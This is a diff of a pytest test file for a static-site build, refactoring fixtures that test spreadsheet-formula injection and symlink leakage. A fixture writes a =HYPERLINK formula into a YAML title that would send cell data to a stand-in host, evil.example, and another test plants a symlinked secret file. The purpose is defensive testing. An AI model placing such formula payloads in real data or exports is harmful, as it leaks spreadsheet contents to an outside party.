@@ -16,7 +16,7 @@ from pathlib import Path
 
 import pytest
 from bs4 import BeautifulSoup
-from conftest import FIXTURES, Build, make_project, run_build
+from conftest import Build, builds, mini_project, mini_variant, run_build
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -121,18 +121,14 @@ def test_spreadsheet_cells_never_start_a_formula(cell: object, safe: object) -> 
 
 
 @pytest.fixture(scope="module")
+@builds
 def tricky_site(tmp_path_factory: pytest.TempPathFactory) -> Build:
     """The mini fixture with names that look like formulas and an ampersand in a title."""
-    root = make_project(tmp_path_factory.mktemp("tricky"), FIXTURES / "mini")
-    edits = {
-        "measures/glasfaser.yaml": ("title: Glasfaser bis 2020", 'title: \'=HYPERLINK("https://evil.example/?"&A1,"Details")\''),
-        "organisations/stadt-test.yaml": ("name: Stadt Test", 'name: "@Stadt Test"'),
-        "initiatives/masterplan-test.yaml": ("title: Masterplan Test", "title: Masterplan Test & AT&T"),
-    }
-    for rel, (old, new) in edits.items():
-        path = root / "data" / rel
-        path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
-    build = run_build(root)
+    build = mini_variant(
+        tmp_path_factory.mktemp("tricky"),
+        ("measures/glasfaser.yaml", "title: Glasfaser bis 2020", 'title: \'=HYPERLINK("https://evil.example/?"&A1,"Details")\''),
+        ("organisations/stadt-test.yaml", "name: Stadt Test", 'name: "@Stadt Test"'),
+        ("initiatives/masterplan-test.yaml", "title: Masterplan Test", "title: Masterplan Test & AT&T"))
     assert build.returncode == 0, build.output
     return build
 
@@ -164,10 +160,9 @@ def test_a_title_means_the_same_text_in_every_place(tricky_site: Build) -> None:
 
 
 @pytest.fixture()
-def built_project(tmp_path: Path) -> Path:
-    root = make_project(tmp_path, FIXTURES / "mini")
-    assert run_build(root).returncode == 0
-    return root
+def built_project(tmp_path: Path, mini_site: Build) -> Path:
+    """A copy of the mini project with the site of a good build (mini_site's: the same project and date)."""
+    return Path(shutil.copytree(mini_site.root, tmp_path / "project", symlinks=True))
 
 
 @pytest.mark.parametrize("failure", ["template", "strict-warning"])
@@ -197,8 +192,9 @@ def test_a_good_build_replaces_the_site_and_leaves_no_staging_folder(built_proje
     assert sorted(p.name for p in built_project.iterdir() if p.name.startswith(".site")) == []
 
 
+@pytest.mark.build
 def test_build_output_never_shows_a_linked_file(tmp_path: Path) -> None:
-    root = make_project(tmp_path, FIXTURES / "mini")
+    root = mini_project(tmp_path)
     secret = tmp_path.parent / f"{tmp_path.name}-geheim.yaml"
     secret.write_text("name: GEHEIMER INHALT\n", encoding="utf-8")
     (root / "data" / "topics" / "geheim.yaml").symlink_to(secret)
